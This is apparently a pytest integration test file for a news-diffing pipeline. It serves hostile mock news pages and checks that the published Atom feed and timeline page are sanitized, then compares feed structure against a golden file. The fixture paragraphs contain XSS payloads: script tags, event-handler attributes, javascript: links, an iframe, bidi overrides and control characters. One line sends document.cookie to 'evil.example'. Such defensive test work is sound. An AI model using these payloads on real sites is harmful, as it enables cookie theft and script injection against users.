"""Hostile article text through the whole pipeline, and the structure of the snapshot's feed.

The first half serves, over real HTTP on loopback, the story's baseline plus two follow-up pages in CGTN markup
whose sentences are real facts of the story (in our own words) laced with what a compromised or careless
publisher can put in a page: script elements, event-handler attributes, ``javascript:`` links, control
characters, lone surrogates (as character references and as invalid UTF-8 bytes), right-to-left text and a
bidi override, ``]]>`` and ``<![CDATA[``, emoji, and XML-special ``&``/``<``.  The real ``track_story`` flow
fetches, parses, diffs and loads them and publishes the feed and the timeline page; the tests then read the
published bytes the way a reader and a browser would.

The second half pins the snapshot feed's structure in ``tests/golden/snapshot_feed.json`` (see
``test_snapshot_feed_structure_matches_golden`` for why the structure and not the bytes).
"""

from __future__ import annotations

import asyncio
import inspect
import json
import os
import re
import threading
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import duckdb
import feedparser
import lxml.html
import pytest
from lxml import etree

from feeds import validate_atom
from flows.track_story import track_story
from storydiff.config import load_config
from storydiff.demo import write_replay_config

pytestmark = [pytest.mark.integration, pytest.mark.usefixtures("prefect_api")]

REPO = Path(__file__).resolve().parent.parent
SNAPSHOT = REPO / "tests" / "fixtures" / "snapshot"
SITE = SNAPSHOT / "site"
GOLDEN = REPO / "tests" / "golden"
SLUG = "us-russia-riyadh-2025"
BASELINE_ID = "1B6QoQPl8EE"
BASELINE_PATH = f"/news.cgtn.com/news/2025-02-19/news-{BASELINE_ID}/p.html"
BASELINE_URL = "https://news.cgtn.com" + BASELINE_PATH.removeprefix("/news.cgtn.com")
BASELINE_TITLE = "U.S., Russia agree to improve ties, work on ending Ukraine conflict"
ATOM = "{http://www.w3.org/2005/Atom}"
LABEL_SCHEME = "https://storydiff.dev/ns/label"

# Text that must survive, byte for byte, from the article to the feed and the page.
ARABIC = "محادثات إسطنبول"
HEBREW = "שיחות באיסטנבול"
EMOJI = "🕊️🤝"
# XML 1.0 cannot carry these (C0 controls but tab/LF/CR, U+FFFE/U+FFFF, surrogates); C1 controls and the bidi
# embedding/override/isolate controls are legal XML but never wanted in a title ("Trojan Source").
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff\ud800-\udfff\u202a-\u202e\u2066-\u2069]"
)
SERVER_TIMEOUT = 5.0  # seconds a handler waits on a stalled client


def hostile_url(name: str, day: str, news_id: str) -> str:
    return f"https://news.cgtn.com/news/{day}/Russia-U-S-talks-{name}-{news_id}/p.html"


ISTANBUL_URL = hostile_url("Istanbul-embassy-round", "2025-02-28", "1HostileIst")
JEDDAH_URL = hostile_url("Jeddah-ceasefire-proposal", "2025-03-12", "1HostileJed")

# Page 1 (valid UTF-8): markup-level attacks (real elements and attributes, which must vanish) and text-level
# attacks (character references, which become article *text* and must be shown escaped, never as markup).
ISTANBUL_TITLE = (
    'Russia, U.S. hold embassy talks in Istanbul &lt;script&gt;alert("title")&lt;/script&gt; '
    f"— {ARABIC} {EMOJI}"
)
ISTANBUL_PARAGRAPHS = [
    # A script element in the middle of a sentence, and an image whose onerror handler runs script.
    "Diplomats from Russia and the United States spent more than six hours in talks in Istanbul on Thursday "
    "about the work of their embassies<script>document.title='pwned';fetch('https://evil.example/'+document"
    '.cookie)</script>.<img src="x" onerror="alert(document.domain)"> The meeting was held at the residence '
    "of the U.S. consul general in the Turkish city<svg onload=alert(1)><circle r=1></svg>.",
    # javascript: links, an iframe, and article text that *says* <script> (character references).
    'Sonata Coulter, a deputy assistant secretary of state, headed the <a href="javascript:alert(1)" '
    'onclick="alert(2)">American team</a>, while the Russian side was led by Alexander Darchiev, director of '
    'the foreign ministry\'s North America department<iframe src="javascript:alert(3)"></iframe>. '
    "According to the State Department, the U.S. delegation raised access to banking services for diplomats "
    "&lt;script&gt;alert('evidence')&lt;/script&gt; and stable staffing at the embassy in Moscow.",
    # Right-to-left scripts, a bidi override (U+202E) and emoji.
    f"Russia's foreign ministry called the talks substantive and businesslike, Arabic-language media headlined "
    f'them "{ARABIC}" and Israeli papers "{HEBREW}", and a Kremlin aide posted {EMOJI} after the meeting. '
    "Moscow also proposed restoring direct flights between the two countries \u202egnikcaj\u202c right away.",
    # C0 controls raw and as references, a lone surrogate reference, CDATA markers, & and <.
    "Washington had stressed in advance that no political or security issues, including Ukraine, were on "
    "the agenda\x01\x0b\x1b&#x1b;&#1;. The two sides agreed that a second round &amp; a working group on "
    "embassy property would follow in &lt; 30 days ]]> &lt;![CDATA[ <![CDATA[ hidden ]]> &#xD800;&#xDFFF; "
    "in Istanbul.",
]
# Page 2: invalid UTF-8 (a CESU-8 encoded surrogate and a stray 0xFF) in an otherwise ASCII page, which the
# fetcher cannot decode as UTF-8 and must still read without letting anything XML-illegal through.
JEDDAH_TITLE = "Ukraine backs U.S. proposal for 30-day ceasefire after talks in Jeddah"
JEDDAH_PARAGRAPHS = [
    "Ukraine said on Tuesday in Jeddah that it was ready to accept a U.S. proposal for an immediate 30-day "
    "ceasefire with Russia \xed\xa0\x80, subject to acceptance by Moscow.",
    "Following the talks in Saudi Arabia, Washington said it would immediately lift its pause on intelligence "
    "sharing with Kyiv and resume security assistance \xff\x1b<script>alert(4)</script>.",
    # Curly quotes as UTF-8: the invalid bytes above must not garble the page's valid non-ASCII text.
    'Rubio said the U.S. would now take the offer to Russia <a href="javascript:void(0)" onmouseover='
    '"alert(5)">and that \u201cthe ball is in their court\u201d</a> &#xD800;.',
]


def cgtn_page(url: str, title: str, paragraphs: list[str], date: str, news_id: str) -> bytes:
    """A CGTN page from the baseline's template: ``title`` and ``paragraphs`` are HTML (already escaped where
    they mean text); other bytes (invalid UTF-8) are passed through as latin-1 code points."""
    template = (SITE / BASELINE_PATH.lstrip("/")).read_text(encoding="utf-8")
    start = template.index('<div id="cmsMainContent"')
    end = template.index('<div class="sourceTextDiv"')
    body = "".join(f'<div class="text  en"><p>{p}</p></div>\n' for p in paragraphs)
    page = template[:start] + f'<div id="cmsMainContent">\n{body}</div>\n' + template[end:]
    page = page.replace(BASELINE_URL, url).replace(BASELINE_ID, news_id)
    page = page.replace("Updated 13:22, 19-Feb-2025", f"Updated 09:30, {date}")
    page = page.replace('<div class="related-news">', '<div class="related-news" hidden>')
    # The title appears in text and in attribute values: give every occurrence the escaped form.
    page = page.replace(BASELINE_TITLE, title)
    # Encode the markup as UTF-8 but keep characters U+0080..U+00FF written as \x.. escapes as raw bytes.
    out = bytearray()
    for chunk in re.split(r"([\x80-\xff]+)", page):
        if chunk and all("\x80" <= c <= "\xff" for c in chunk):
            out += chunk.encode("latin-1")
        else:
            out += chunk.encode("utf-8")
    return bytes(out)


def baseline_page() -> bytes:
    """The snapshot's baseline, its related-news list pointing at the two hostile pages only."""
    page = (SITE / BASELINE_PATH.lstrip("/")).read_text(encoding="utf-8")
    start = page.index("<h4>Related Stories</h4><ul>")
    end = page.index("</ul>", start)
    links = "".join(
        f'<li><a href="{url}" data-action="Related_Click">{label}</a></li>'
        for url, label in (
            (ISTANBUL_URL, "Russia, U.S. hold embassy talks in Istanbul"),
            (JEDDAH_URL, "Ukraine backs U.S. ceasefire proposal in Jeddah"),
        )
    )
    return (page[:start] + "<h4>Related Stories</h4><ul>" + links + page[end:]).encode("utf-8")


def site_pages() -> dict[str, bytes]:
    def path(url: str) -> str:
        return "/" + url.removeprefix("https://")

    return {
        BASELINE_PATH: baseline_page(),
        path(ISTANBUL_URL): cgtn_page(
            ISTANBUL_URL, ISTANBUL_TITLE, ISTANBUL_PARAGRAPHS, "28-Feb-2025", "1HostileIst"
        ),
        path(JEDDAH_URL): cgtn_page(
            JEDDAH_URL, JEDDAH_TITLE, JEDDAH_PARAGRAPHS, "12-Mar-2025", "1HostileJed"
        ),
    }


def make_handler(pages: dict[str, bytes]) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        timeout = SERVER_TIMEOUT

        def log_message(self, format: str, *args: object) -> None:
            return

        def do_GET(self) -> None:
            body = pages.get(self.path.split("?", 1)[0])
            status = 200 if body is not None else 404
            body = body if body is not None else b"not found"
            self.send_response(status)
            # Every page declares UTF-8, including the one whose bytes are not.
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    return Handler


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """One real run of the flow over the baseline and the two hostile pages; what it published."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), make_handler(site_pages()))
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, name="hostile-site", daemon=True)
    thread.start()
    try:
        out = tmp_path_factory.mktemp("hostile")
        config = load_config(REPO / "stories.toml")
        story = config.story(SLUG)
        # No RSS or sitemaps: the baseline's related list is the only way in, so the run sees our pages only.
        story = replace(story, discovery=replace(story.discovery, rss=(), sitemaps=(), link_depth=1))
        # every snapshot host the pages could link to is mirrored onto our server
        cfg = write_replay_config(
            out,
            f"http://127.0.0.1:{server.server_address[1]}",
            config=config,
            stories=[story],
            fetch={"timeout": 5.0, "deadline": 10.0},
            extra_sources=False,
        )
        summary = asyncio.run(track_story(SLUG, str(cfg)))
        feeds_dir = out / "feeds"
        yield {
            "summary": summary,
            "db": out / "storydiff.duckdb",
            "feed": (feeds_dir / f"{SLUG}.atom").read_bytes(),
            "page": (feeds_dir / f"{SLUG}.html").read_bytes(),
        }
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def atom_entries(data: bytes) -> list[etree._Element]:
    root = etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True))
    return root.findall(f"{ATOM}entry")


def entry_text(entry: etree._Element) -> str:
    """Everything a reader shows of an entry: title, summary, and the content's HTML as rendered text."""
    parts = [entry.findtext(f"{ATOM}title") or "", entry.findtext(f"{ATOM}summary") or ""]
    content = entry.findtext(f"{ATOM}content") or ""
    if content.strip():
        parts.append(lxml.html.fragment_fromstring(content, create_parent="div").text_content())
    return "\n".join(parts)


def assert_inert_html(fragment: lxml.html.HtmlElement, where: str) -> None:
    """No element that runs code, no event-handler attribute, no link that is not http(s) or in-page."""
    for element in fragment.iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag not in {"script", "iframe", "object", "embed", "svg", "img", "form"}, where
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), f"{where}: <{element.tag} {name}={value!r}>"
            if name in {"href", "src", "action", "formaction"}:
                assert value.startswith(("https://", "http://", "#")) or value.endswith(".atom"), (
                    f"{where}: <{element.tag} {name}={value!r}>"
                )


# -- the hostile run ------------------------------------------------------------------------------------------


def test_the_hostile_pages_became_developments(hostile: dict[str, Any]) -> None:
    """The attack must really reach the warehouse, or the rest of this module proves nothing."""
    with duckdb.connect(str(hostile["db"]), read_only=True) as con:
        sources = con.execute("SELECT DISTINCT url FROM development_sources").fetchall()
        evidence = [r[0] for r in con.execute("SELECT evidence FROM developments").fetchall()]
    assert {ISTANBUL_URL, JEDDAH_URL} <= {r[0] for r in sources}
    stored = "\n".join(evidence)
    # Text-level payloads arrive as text: the warehouse keeps what the publisher printed.
    assert "<script>alert('evidence')</script>" in stored
    assert ARABIC in stored and HEBREW in stored and EMOJI in stored
    assert "]]>" in stored and "<![CDATA[" in stored
    # Markup-level payloads never became text.
    assert "document.cookie" not in stored and "alert(document.domain)" not in stored


def test_the_feed_is_valid_atom(hostile: dict[str, Any]) -> None:
    assert validate_atom(hostile["feed"]) == []
    parsed = feedparser.parse(hostile["feed"])
    assert parsed.bozo == 0, parsed.get("bozo_exception")
    assert len(parsed.entries) == len(atom_entries(hostile["feed"])) >= 4


def test_the_feed_bytes_carry_no_markup_and_no_forbidden_characters(hostile: dict[str, Any]) -> None:
    data = hostile["feed"]
    lowered = data.lower()
    assert b"<script" not in lowered
    assert b"onerror" not in lowered and b"onload" not in lowered and b"onclick" not in lowered
    assert b"onmouseover" not in lowered
    assert b"javascript:" not in lowered
    assert b"<iframe" not in lowered and b"<svg" not in lowered and b"<img" not in lowered
    text = data.decode("utf-8")  # strict: the feed is valid UTF-8, so no raw surrogate can be in it
    assert not FORBIDDEN.findall(text), sorted(set(FORBIDDEN.findall(text)))
    # Nor as character references, which an XML parser would reject or a reader would turn back into controls.
    assert not re.search(r"&#x?0*(?:[0-8bcefBCEF]|1[0-9a-fA-F]|d[89a-f][0-9a-f]{2});", text, re.I)
    # "]]>" may not appear in XML character data; the markers are escaped text, never real CDATA sections.
    assert b"]]>" not in data and b"<![CDATA[" not in data


def test_right_to_left_text_emoji_and_special_characters_survive(hostile: dict[str, Any]) -> None:
    shown = "\n".join(entry_text(e) for e in atom_entries(hostile["feed"]))
    assert ARABIC in shown and HEBREW in shown and EMOJI in shown
    assert "]]>" in shown and "<![CDATA[" in shown  # shown as what the article printed
    assert "<script>alert('evidence')</script>" in shown  # as visible text, not as an element
    assert "second round & a working group" in shown and "in < 30 days" in shown
    assert "gnikcaj" in shown  # the override is dropped, the letters it wrapped are kept
    titles = [e.findtext(f"{ATOM}title") or "" for e in atom_entries(hostile["feed"])]
    assert all(t.strip() for t in titles)


def test_invalid_bytes_do_not_garble_the_valid_text_around_them(hostile: dict[str, Any]) -> None:
    import duckdb

    with duckdb.connect(str(hostile["db"]), read_only=True) as con:
        bodies = [r[0] for r in con.execute("SELECT body FROM article_versions").fetchall()]
    jeddah = [b for b in bodies if "30-day ceasefire" in b]
    assert jeddah, "the page with invalid bytes was loaded"
    assert "\u201cthe ball is in their court\u201d" in jeddah[0]  # the valid UTF-8 around them survives


def test_entry_content_is_inert_html(hostile: dict[str, Any]) -> None:
    for index, entry in enumerate(atom_entries(hostile["feed"]), start=1):
        content = entry.find(f"{ATOM}content")
        assert content is not None and content.get("type") == "html"
        fragment = lxml.html.fragment_fromstring(content.text or "", create_parent="div")
        assert_inert_html(fragment, f"entry {index} content")
        for link in entry.findall(f"{ATOM}link"):
            assert (link.get("href") or "").startswith(("https://", "http://")), link.get("href")


def test_the_timeline_page_has_no_script_and_shows_the_text_safely(hostile: dict[str, Any]) -> None:
    data = hostile["page"]
    lowered = data.lower()
    assert b"<script" not in lowered and b"javascript:" not in lowered
    assert b"onerror" not in lowered and b"onload" not in lowered and b"onclick" not in lowered
    text = data.decode("utf-8")
    assert not FORBIDDEN.findall(text), sorted(set(FORBIDDEN.findall(text)))
    document = lxml.html.document_fromstring(data)
    assert_inert_html(document, "timeline page")
    shown = document.text_content()
    assert ARABIC in shown and HEBREW in shown and EMOJI in shown
    assert "<script>alert('evidence')</script>" in shown and "]]>" in shown
    assert "in < 30 days" in shown


# -- the snapshot feed's structure ------------------------------------------------------------------------------

AS_OF = datetime(2025, 8, 20, 12, 0, tzinfo=UTC)  # a fixed "seen at" for the reproducible run


def flow_has_as_of() -> bool:
    """Whether ``track_story`` takes ``as_of`` (the run's "seen at"), which makes the published bytes reproducible."""
    return "as_of" in inspect.signature(track_story.fn).parameters


@pytest.fixture(scope="module")
def snapshot_feeds(snapshot_url: str, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Two runs of the flow over the recorded snapshot into separate warehouses: the first on the wall clock
    (as ``storydiff run`` does), the second at ``AS_OF`` when the flow supports it."""
    dirs = []
    for n, as_of in enumerate((None, AS_OF if flow_has_as_of() else None)):
        out = tmp_path_factory.mktemp(f"snapshot-feed-{n}")
        cfg = write_replay_config(out, snapshot_url)
        kwargs = {"as_of": as_of} if as_of is not None else {}
        asyncio.run(track_story(SLUG, str(cfg), **kwargs))
        dirs.append(out / "feeds")
    return {"clock": dirs[0], "fixed": dirs[1]}


def feed_structure(feeds_dir: Path) -> list[dict[str, Any]]:
    """What identifies and says each entry, over the subscription document and every archive, without times.

    Everything kept is a function of the snapshot's content alone: the tag: ids are built from content keys,
    labels, evidence and before/after come from the fact diff, the links from the articles.  Sorted by id.
    """
    result = []
    for document in sorted(feeds_dir.glob(f"{SLUG}*.atom")):
        data = document.read_bytes()
        assert validate_atom(data) == [], document.name
        for entry in atom_entries(data):
            content = lxml.html.fragment_fromstring(
                entry.findtext(f"{ATOM}content") or "", create_parent="div"
            )
            labels = [
                c.get("term") for c in entry.findall(f"{ATOM}category") if c.get("scheme") == LABEL_SCHEME
            ]
            result.append(
                {
                    "id": entry.findtext(f"{ATOM}id"),
                    "label": labels[0] if labels else None,
                    "title": entry.findtext(f"{ATOM}title"),
                    "evidence": " ".join(content.xpath("string(.//blockquote)").split()),
                    "before": " ".join(content.xpath("string(.//del)").split()) or None,
                    "after": " ".join(content.xpath("string(.//ins)").split()) or None,
                    "sources": [
                        [link.get("rel"), link.get("href")]
                        for link in entry.findall(f"{ATOM}link")
                        if link.get("href") != BASELINE_URL
                    ],
                }
            )
    return sorted(result, key=lambda e: e["id"])


def check_golden(path: Path, data: bytes) -> None:
    if os.environ.get("UPDATE_GOLDEN"):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    assert path.exists(), f"{path} missing: run with UPDATE_GOLDEN=1"
    assert data == path.read_bytes(), f"{path.name} differs from the golden file (UPDATE_GOLDEN=1 to accept)"


def test_snapshot_feed_structure_matches_golden(snapshot_feeds: dict[str, Any]) -> None:
    """The snapshot feed's entries (id, label, title, evidence, before/after, source links) against a reviewed
    golden file.  A change in the fact engine, the parsers or the renderer shows up here as a readable diff.

    Regenerate with ``UPDATE_GOLDEN=1 pytest tests/test_feed_pipeline.py`` and review the diff.
    """
    structure = feed_structure(snapshot_feeds["clock"])
    text = json.dumps(structure, ensure_ascii=False, indent=1) + "\n"
    check_golden(GOLDEN / "snapshot_feed.json", text.encode("utf-8"))


def test_snapshot_feed_structure_does_not_depend_on_the_run(snapshot_feeds: dict[str, Any]) -> None:
    """A second warehouse built from the same snapshot publishes the same entries under the same ids."""
    assert feed_structure(snapshot_feeds["clock"]) == feed_structure(snapshot_feeds["fixed"])


def test_snapshot_feed_times_are_the_only_volatile_bytes(snapshot_feeds: dict[str, Any]) -> None:
    """With every date-time blanked, the two runs' documents are byte-identical: nothing but time is volatile."""
    first, second = snapshot_feeds["clock"], snapshot_feeds["fixed"]
    names = sorted(p.name for p in first.glob(f"{SLUG}*"))
    assert names and names == sorted(p.name for p in second.glob(f"{SLUG}*"))
    stamp = re.compile(
        rb"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(?:Z|[+-]\d{2}:\d{2})|\d{4}-\d{2}-\d{2} \d{2}:\d{2} UTC"
    )
    for name in names:
        a, b = ((d / name).read_bytes() for d in (first, second))
        assert stamp.sub(b"T", a) == stamp.sub(b"T", b), name


@pytest.mark.skipif(
    not flow_has_as_of(), reason="track_story has no as_of parameter: feed bytes follow the clock"
)
def test_snapshot_feed_bytes_match_golden_at_a_fixed_time(snapshot_feeds: dict[str, Any]) -> None:
    """With the run's "seen at" fixed, the published bytes (feed, archives, timeline page) are reproducible."""
    fixed = snapshot_feeds["fixed"]
    names = sorted(p.name for p in fixed.glob(f"{SLUG}*"))
    assert any(n.endswith(".atom") for n in names) and f"{SLUG}.html" in names
    for name in names:
        check_golden(GOLDEN / "snapshot" / name, (fixed / name).read_bytes())
